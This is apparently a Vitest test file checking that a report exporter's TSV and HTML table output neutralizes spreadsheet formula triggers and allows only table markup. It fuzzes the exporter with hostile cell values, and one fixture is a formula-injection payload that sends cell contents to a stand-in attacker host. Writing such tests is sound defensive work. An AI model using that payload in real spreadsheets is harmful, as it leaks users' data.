// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { startsWithFormulaTrigger } from '@/core/exporters/text-safety';
import { renderTableHtml, renderTsv, tsvCell } from '@/core/exporters/tsv-exporter';
import { buildReport } from '@/core/report/build-report';
import type { RuleSheetRow } from '@/core/report/columns';
import { RULE_SHEET_COLUMNS } from '@/core/report/columns';
import type { Report } from '@/core/report/model';

import { exportCatalog } from '../../../fixtures/catalogs';
import {
  FIXTURE_PERMALINK,
  fixturePlan,
  fixtureResolution,
  HOSTILE_NAMES,
} from '../../../fixtures/resolution-fixture';

function hostileReport(): Report {
  return buildReport({
    plan: fixturePlan(HOSTILE_NAMES),
    resolution: fixtureResolution(HOSTILE_NAMES),
    catalog: exportCatalog,
    permalink: FIXTURE_PERMALINK,
  });
}

const cells = (tsv: string) =>
  tsv
    .replace(/\n$/, '')
    .split('\n')
    .map((line) => line.split('\t'));

/** The table of an HTML fragment as the browser reads it, and every element name in it. */
function parseHtml(html: string) {
  const doc = new DOMParser().parseFromString(html, 'text/html');
  const rows = [...doc.querySelectorAll('tr')].map((tr) =>
    [...tr.children].map((cell) => cell.textContent),
  );
  const elements = [...doc.body.querySelectorAll('*')].map((e) => e.localName);
  const attributes = [...doc.body.querySelectorAll('*')].flatMap((e) => [...e.attributes]);
  return { doc, rows, elements, attributes };
}

const TRIGGERS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
];

/** Cells from all of Unicode, plus formula triggers, HTML and the table's own separators. */
const cell = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.oneof(
        fc.constantFrom(...TRIGGERS),
        fc.constantFrom('<', '>', '&', '"', "'", '</td>', '<script>', '&amp;', '|', ' ', 'a'),
        fc.constantFrom('\u202e', '\u200e', '\u0085', '\u2028', '\u000b', '=HYPERLINK("x")'),
      ),
      { maxLength: 10 },
    )
    .map((parts) => parts.join('')),
);

const row = fc
  .array(cell, { minLength: RULE_SHEET_COLUMNS.length, maxLength: RULE_SHEET_COLUMNS.length })
  .map((values) => Object.fromEntries(RULE_SHEET_COLUMNS.map((c, i) => [c, values[i]])))
  .map((r) => r as RuleSheetRow);

describe('Copy table (TSV)', () => {
  it('replaces tabs and line breaks in cells with spaces', () => {
    expect(tsvCell('a\tb\r\nc\nd\re\u2028f')).toBe('a b c d e f');
  });

  it('keeps one line per rule, with every column', () => {
    const report = hostileReport();
    const lines = renderTsv(report).trimEnd().split('\n');
    expect(lines).toHaveLength(2 + report.rows.length);
    expect(lines[1]).toBe(RULE_SHEET_COLUMNS.join('\t'));
    for (const line of lines.slice(1))
      expect(line.split('\t')).toHaveLength(RULE_SHEET_COLUMNS.length);
    expect(lines[0]).toContain(FIXTURE_PERMALINK);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&C4)', `'=HYPERLINK("http://evil.example/?leak="&C4)`],
    ['+FS01', "'+FS01"],
    ['-Isilon', "'-Isilon"],
    ['@SUM(1,1)', "'@SUM(1,1)"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['\t=1', "' =1"],
    ['\r\n=1', "' =1"],
    ['\u202e=1', "'=1"],
    ['\u0000=1', "'=1"],
    ['a=1', 'a=1'],
  ])('neutralizes formulas like the CSV: %j -> %j', (input, expected) => {
    expect(tsvCell(input)).toBe(expected);
  });

  it('no cell of the hostile plan starts with a formula trigger', () => {
    for (const line of cells(renderTsv(hostileReport()))) {
      for (const c of line) expect(startsWithFormulaTrigger(c), c).toBe(false);
    }
  });

  it('no cell starts with a formula trigger, whatever the plan holds', () => {
    fc.assert(
      fc.property(cell, (text) => {
        const out = tsvCell(text);
        expect(startsWithFormulaTrigger(out)).toBe(false);
        expect(out).not.toMatch(/[\t\r\n]/);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('Copy table (HTML beside the text)', () => {
  it('is a table with a header row whose cells read as the TSV cells', () => {
    const report = hostileReport();
    const { rows, elements, attributes } = parseHtml(renderTableHtml(report));
    expect(rows).toEqual(cells(renderTsv(report)));
    expect(new Set(elements)).toEqual(new Set(['table', 'thead', 'tbody', 'tr', 'th', 'td']));
    expect(attributes).toEqual([]);
  });

  it('puts the provenance and the column names in <thead> as <th>, the rules as <td>', () => {
    const report = hostileReport();
    const { doc } = parseHtml(renderTableHtml(report));
    const headRows = [...doc.querySelectorAll('thead tr')];
    expect(headRows.map((r) => r.children.length)).toEqual([1, RULE_SHEET_COLUMNS.length]);
    expect([...(headRows[1]?.children ?? [])].map((c) => c.localName)).toEqual(
      RULE_SHEET_COLUMNS.map(() => 'th'),
    );
    expect(doc.querySelectorAll('tbody tr')).toHaveLength(report.rows.length);
    expect(doc.querySelectorAll('tbody th')).toHaveLength(0);
  });

  it('for any cells: same rows and cells as the TSV, each cell its TSV text, nothing but a table', () => {
    const base = hostileReport();
    fc.assert(
      fc.property(cell, fc.array(row, { maxLength: 4 }), (title, rows) => {
        const report: Report = { ...base, title, rows };
        const html = renderTableHtml(report);
        const { doc, rows: parsed, elements, attributes } = parseHtml(html);
        expect(parsed).toEqual(cells(renderTsv(report)));
        for (const name of elements) {
          expect(['table', 'thead', 'tbody', 'tr', 'th', 'td']).toContain(name);
        }
        expect(attributes).toEqual([]);
        expect(doc.body.children).toHaveLength(1);
        expect(doc.head.children).toHaveLength(0);
      }),
      { numRuns: 300 },
    );
  }, 120_000);
});
